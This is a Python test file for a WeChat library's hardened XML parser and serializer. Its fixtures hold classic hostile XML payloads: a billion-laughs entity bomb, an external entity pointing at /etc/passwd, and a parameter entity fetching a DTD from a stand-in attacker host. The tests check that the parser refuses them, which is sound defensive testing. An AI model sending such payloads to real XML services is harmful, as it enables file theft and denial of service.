"""The safe XML reader refuses hostile bodies; to_xml renders any text faithfully."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wechat.xmlutil import (
    MAX_BODY_BYTES,
    MAX_DEPTH,
    BodyTooLarge,
    HostileXml,
    MalformedXml,
    XmlError,
    parse_xml,
    to_xml,
)

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE xml [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><Content>&lol9;</Content></xml>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>gh_1</ToUserName><Content>&xxe;</Content></xml>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<xml/>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "file:///etc/passwd">
<xml/>"""

# Characters XML 1.0 can carry (everything but C0 controls other than TAB/LF/CR,
# surrogates and U+FFFE/U+FFFF).
xml_text = st.text(
    alphabet=st.characters(
        blacklist_categories=("Cs",),
        blacklist_characters=[chr(c) for c in range(32) if c not in (9, 10, 13)]
        + ["\ufffe", "\uffff"],
    )
)


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, EXTERNAL_DTD, "<!DOCTYPE xml><xml/>"],
    ids=["billion-laughs", "external-entity", "parameter-entity", "external-dtd", "doctype"],
)
def test_it_refuses_dtds_and_entities(body: str) -> None:
    with pytest.raises(HostileXml):
        parse_xml(body)
    with pytest.raises(HostileXml):
        parse_xml(body.encode())


def test_it_never_reads_the_file_an_external_entity_names() -> None:
    with pytest.raises(HostileXml) as caught:
        parse_xml(EXTERNAL_ENTITY)
    assert "root:" not in str(caught.value)


def test_it_refuses_processing_instructions() -> None:
    with pytest.raises(HostileXml):
        parse_xml('<?xml-stylesheet href="x.xsl"?><xml/>')
    with pytest.raises(HostileXml):
        parse_xml("<xml><?php echo 1; ?></xml>")


def test_it_accepts_an_xml_declaration_and_a_comment() -> None:
    body = '<?xml version="1.0" encoding="UTF-8"?><!-- hi --><xml><A>1</A></xml>'
    assert parse_xml(body) == {"A": "1"}


def test_it_refuses_a_body_over_64_kib() -> None:
    filler = "x" * (MAX_BODY_BYTES - len("<xml><A></A></xml>") + 1)
    with pytest.raises(BodyTooLarge):
        parse_xml(f"<xml><A>{filler}</A></xml>")


def test_it_accepts_a_body_of_exactly_64_kib() -> None:
    filler = "x" * (MAX_BODY_BYTES - len("<xml><A></A></xml>"))
    assert parse_xml(f"<xml><A>{filler}</A></xml>") == {"A": filler}


def test_it_counts_the_limit_in_bytes_not_characters() -> None:
    chinese = "你" * (MAX_BODY_BYTES // 3)  # under the limit in characters, over in bytes
    with pytest.raises(BodyTooLarge):
        parse_xml(f"<xml><A>{chinese}</A></xml>")


def test_it_refuses_deep_nesting() -> None:
    deep = "<a>" * MAX_DEPTH + "x" + "</a>" * MAX_DEPTH
    with pytest.raises(HostileXml):
        parse_xml(f"<xml>{deep}</xml>")


def test_it_accepts_nesting_up_to_the_limit() -> None:
    depth = MAX_DEPTH - 1
    nested = "<a>" * depth + "x" + "</a>" * depth
    value = parse_xml(f"<xml>{nested}</xml>")
    for _ in range(depth - 1):
        value = value["a"]
    assert value == {"a": "x"}


def test_it_refuses_a_repeated_top_level_field() -> None:
    body = "<xml><ToUserName>gh_a</ToUserName><ToUserName>gh_b</ToUserName></xml>"
    with pytest.raises(HostileXml, match="repeated <ToUserName>"):
        parse_xml(body)


def test_it_keeps_repeated_nested_elements_as_a_list() -> None:
    body = "<xml><Info><fail_idx>1</fail_idx><fail_idx>2</fail_idx></Info></xml>"
    parsed = parse_xml(body)
    assert parsed == {"Info": {"fail_idx": ["1", "2"]}}
    assert parse_xml(to_xml(parsed)) == parsed


@pytest.mark.parametrize(
    "body",
    [
        "",
        "   \n ",
        "garbage",
        "{}",
        "<xml>",
        "<xml><A>1</B></xml>",
        "<xml>&undefined;</xml>",
        "<xml><A>1</A></xml><xml/>",
        "<xml>text</xml>",
        "<xml><A>1</A>stray</xml>",
        "<other><A>1</A></other>",
        b"\xff\xfe\x00garbage",
    ],
)
def test_it_rejects_what_is_not_a_platform_document(body: str | bytes) -> None:
    with pytest.raises(MalformedXml):
        parse_xml(body)


def test_all_refusals_share_one_base_class() -> None:
    assert issubclass(HostileXml, XmlError)
    assert issubclass(BodyTooLarge, XmlError)
    assert issubclass(MalformedXml, XmlError)
    assert issubclass(XmlError, ValueError)


def test_it_keeps_cdata_text_exactly() -> None:
    body = "<xml><Content><![CDATA[  two  spaces\nand <tags> & ]]></Content></xml>"
    assert parse_xml(body) == {"Content": "  two  spaces\nand <tags> & "}


def test_item_children_become_a_list_even_when_alone() -> None:
    body = "<xml><Articles><item><Title>t</Title></item></Articles></xml>"
    assert parse_xml(body) == {"Articles": [{"Title": "t"}]}


def test_items_beside_named_fields_stay_under_item() -> None:
    # PUBLISHJOBFINISH's article_detail holds a count beside its items.
    body = "<xml><D><count>2</count><item><i>1</i></item><item><i>2</i></item></D></xml>"
    parsed = parse_xml(body)
    assert parsed == {"D": {"count": "2", "item": [{"i": "1"}, {"i": "2"}]}}
    assert parse_xml(to_xml(parsed)) == parsed


def test_it_reads_utf8_bytes_and_str_alike() -> None:
    body = "<xml><Content><![CDATA[你好😀]]></Content></xml>"
    assert parse_xml(body) == parse_xml(body.encode()) == {"Content": "你好😀"}


def test_to_xml_renders_strings_as_cdata_and_numbers_as_text() -> None:
    rendered = to_xml({"ToUserName": "o1", "CreateTime": 1713424427, "Skipped": None})
    assert rendered == (
        "<xml><ToUserName><![CDATA[o1]]></ToUserName><CreateTime>1713424427</CreateTime></xml>"
    )


def test_to_xml_renders_lists_as_items() -> None:
    rendered = to_xml({"Articles": [{"Title": "a"}, {"Title": "b"}]})
    assert rendered == (
        "<xml><Articles><item><Title><![CDATA[a]]></Title></item>"
        "<item><Title><![CDATA[b]]></Title></item></Articles></xml>"
    )


def test_to_xml_splits_a_cdata_terminator() -> None:
    assert to_xml({"C": "a]]>b"}) == "<xml><C><![CDATA[a]]]]><![CDATA[>b]]></C></xml>"
    assert parse_xml(to_xml({"C": "a]]>b"})) == {"C": "a]]>b"}


@pytest.mark.parametrize("tag", ["bad tag", "a<b", "1st", "", "x>y"])
def test_to_xml_refuses_unsafe_element_names(tag: str) -> None:
    with pytest.raises(ValueError, match="not a safe element name"):
        to_xml({tag: "v"})


def test_to_xml_refuses_text_xml_cannot_carry() -> None:
    with pytest.raises(ValueError, match="cannot represent"):
        to_xml({"C": "nul\x00"})


def test_to_xml_refuses_booleans_and_unknown_types() -> None:
    with pytest.raises(TypeError):
        to_xml({"Flag": True})
    with pytest.raises(TypeError):
        to_xml({"Obj": object()})


@given(text=xml_text)
def test_any_text_round_trips_through_to_xml(text: str) -> None:
    assert parse_xml(to_xml({"Content": text})) == {"Content": text}


@given(
    value=st.recursive(
        xml_text,
        lambda children: st.one_of(
            st.dictionaries(
                st.from_regex(r"[A-Z][a-z]{0,6}", fullmatch=True), children, min_size=1
            ),
            st.lists(st.dictionaries(st.just("V"), children, min_size=1), min_size=1, max_size=3),
        ),
        max_leaves=8,
    )
)
def test_nested_dicts_and_lists_round_trip(value: object) -> None:
    document = {"Field": value}
    try:
        rendered = to_xml(document)
    except ValueError:
        return
    try:
        parsed = parse_xml(rendered)
    except HostileXml:
        return  # deeper than MAX_DEPTH: refused by design
    assert parsed == document
